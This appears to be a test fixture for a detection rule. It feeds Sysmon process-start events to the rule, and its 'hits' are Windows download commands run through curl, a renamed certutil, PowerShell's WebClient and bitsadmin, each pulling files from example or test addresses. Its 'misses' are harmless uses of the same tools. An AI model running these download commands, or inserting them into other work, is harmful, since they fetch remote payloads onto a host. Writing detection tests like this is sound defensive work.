import { proof, set, sysmonStart } from '../../proof';

const SYSTEM32 = 'C:\\Windows\\System32';

export default proof({
  plain: true,
  hits: [
    set(
      'curl fetches a script',
      sysmonStart({
        image: `${SYSTEM32}\\curl.exe`,
        commandLine: 'curl -sLo a.py https://gist.example.org/raw/a.py',
      })
    ),
    set(
      'certutil, renamed and in capitals',
      sysmonStart({
        image: 'C:\\Users\\ada\\cu.exe',
        commandLine: 'CU.EXE -URLCACHE -SPLIT -F HTTP://203.0.113.9/A.B64 A.B64',
        originalFileName: 'CertUtil.exe',
      })
    ),
    set(
      'PowerShell through its web client',
      sysmonStart({
        image: `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
        commandLine:
          "powershell (New-Object Net.WebClient).downloadfile('http://203.0.113.9/t.zip','C:\\work\\t.zip')",
        originalFileName: 'PowerShell.EXE',
      })
    ),
    set(
      'a transfer in the background',
      sysmonStart({
        image: `${SYSTEM32}\\bitsadmin.exe`,
        commandLine: 'bitsadmin  /Transfer job /priority high http://203.0.113.9/x.exe C:\\work\\x.exe',
      })
    ),
  ],
  misses: [
    set(
      'curl asks the notebook server of this machine',
      sysmonStart({ image: `${SYSTEM32}\\curl.exe`, commandLine: 'curl http://localhost:8888/api/status' })
    ),
    set(
      'certutil computes a hash',
      sysmonStart({
        image: `${SYSTEM32}\\certutil.exe`,
        commandLine: 'certutil -hashfile C:\\work\\a.csv SHA256',
        originalFileName: 'CertUtil.exe',
      })
    ),
    set(
      'PowerShell lists files',
      sysmonStart({
        image: `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
        commandLine: 'powershell Get-ChildItem C:\\work',
        originalFileName: 'PowerShell.EXE',
      })
    ),
    set(
      'bitsadmin lists its jobs',
      sysmonStart({ image: `${SYSTEM32}\\bitsadmin.exe`, commandLine: 'bitsadmin /list /allusers' })
    ),
  ],
});
